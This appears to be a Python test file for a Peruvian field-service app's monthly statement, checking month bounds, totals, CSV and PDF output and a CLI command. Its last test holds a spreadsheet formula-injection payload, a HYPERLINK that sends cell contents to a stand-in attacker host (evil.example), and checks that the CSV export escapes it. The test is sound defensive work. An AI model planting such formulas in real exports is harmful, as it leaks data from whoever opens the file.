"""Kodak's monthly statement: the month's closed cases, their totals, CSV, PDF and the CLI."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest

from fieldapp.domain.case_flow import Flow
from fieldapp.domain.deadlines import LIMA_TZ
from fieldapp.domain.roles import Role
from fieldapp.extensions import db
from fieldapp.models.types import utcnow
from fieldapp.services.supervisor import approval, statement
from fieldapp.services.supervisor.statement import StatementError
from fieldapp.services.workshop import repairs
from tests import factories
from tests.factories import close_job, doa_case

SIGNATURE = factories.signature_data_url()


def this_month() -> str:
    """The current Lima month, read when a test runs (not at import: a run may cross midnight)."""
    return utcnow().astimezone(LIMA_TZ).strftime("%Y-%m")


@pytest.fixture
def closed(app):
    """Three cases closed this month (one late), one closed last month, one still open."""
    courier = factories.user(Role.COURIER)
    boss = factories.user(Role.SUPERVISOR)
    tech = factories.user(Role.TECHNICIAN)
    cases = []
    for service_number in ("T300002", "T300001", "C300003"):
        case = doa_case(service_number=service_number, model="ESP 3250")
        approval.approve(close_job(case, courier), boss)
        cases.append(case)
    late = cases[0].deadlines[0]
    late.done_at = late.due_at + timedelta(hours=2)
    last_month = cases[2]
    last_month.closed_at = last_month.closed_at.replace(day=1) - timedelta(days=3)
    repaired = factories.case(service_number="C300004")
    repairs.receive(repaired, tech, refilled=False)
    repairs.repair_done(repaired, tech)
    repairs.collect_at_counter(repaired, tech, "María Flores", "45678912", SIGNATURE)
    doa_case(service_number="T300005")  # open
    db.session.commit()
    return cases[:2] + [repaired]


def test_month_bounds_are_lima_months():
    start, end = statement.month_bounds("2026-12")
    assert (start.isoformat(), end.isoformat()) == (
        "2026-12-01T00:00:00-05:00",
        "2027-01-01T00:00:00-05:00",
    )
    for bad in ("2026-13", "11-2026", "", "2026-1"):
        with pytest.raises(StatementError, match="AAAA-MM"):
            statement.month_bounds(bad)


def test_statement_rows_and_totals(closed):
    data = statement.build(this_month())
    assert [row.service_number for row in data.rows] == ["C300004", "T300001", "T300002"]
    assert data.total == 3 and data.met == 2 and data.met_percent == 66.7
    assert data.by_flow == {Flow.DOA_LIMA: 2, Flow.WARRANTY_LIMA: 1}
    met = {row.service_number: row.deadline_met for row in data.rows}
    assert met == {"C300004": True, "T300001": True, "T300002": False}
    repaired = data.rows[0]
    assert repaired.unit_received_at is not None and repaired.served_at is not None


def test_csv_has_every_row_and_the_totals(closed):
    text = statement.to_csv(statement.build(this_month())).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0][0] == "N.º de servicio" and len(rows[0]) == 9
    assert [r[0] for r in rows[1:4]] == ["C300004", "T300001", "T300002"]
    assert rows[3][2] == "DOA Lima" and rows[3][8] == "no"
    assert ["Total", "Casos cerrados", "3"] in rows
    assert ["Total", "Plazo cumplido", "2", "66.7 %"] in rows
    assert ["Total", "DOA Lima", "2"] in rows and ["Total", "Garantía Lima", "1"] in rows


def test_pdf_is_rendered(closed):
    pdf = statement.to_pdf(statement.build(this_month()))
    assert pdf.startswith(b"%PDF") and len(pdf) > 2000


def test_cli_prints_totals_and_writes_files(closed, runner, tmp_path):
    csv_path, pdf_path = tmp_path / "s.csv", tmp_path / "s.pdf"
    result = runner.invoke(
        args=["statement", this_month(), "--csv", str(csv_path), "--pdf", str(pdf_path)]
    )
    assert result.exit_code == 0, result.output
    assert f"Casos cerrados en {this_month()}: 3" in result.output
    assert "Con plazo cumplido: 2 (66.7 %)" in result.output
    assert "T300002" in csv_path.read_text(encoding="utf-8-sig")
    assert pdf_path.read_bytes().startswith(b"%PDF")
    bad = runner.invoke(args=["statement", "noviembre"])
    assert bad.exit_code != 0 and "AAAA-MM" in bad.output


def test_csv_cells_are_never_formulas_and_a_closed_month_keeps_the_model_billed(app):
    courier = factories.user(Role.COURIER)
    boss = factories.user(Role.SUPERVISOR)
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Ver")'
    case = doa_case(service_number="T300010", model=formula)
    approval.approve(close_job(case, courier), boss)
    db.session.commit()
    # A later case for the same unit writes another model into the unit's free text.
    factories.case(service_number="T300010", model="ESP 5250")
    built = statement.build(this_month())
    assert [row.model for row in built.rows] == [formula]
    rows = list(csv.reader(io.StringIO(statement.to_csv(built).decode("utf-8-sig"))))
    assert rows[1][0] == "T300010" and rows[1][3] == "'" + formula
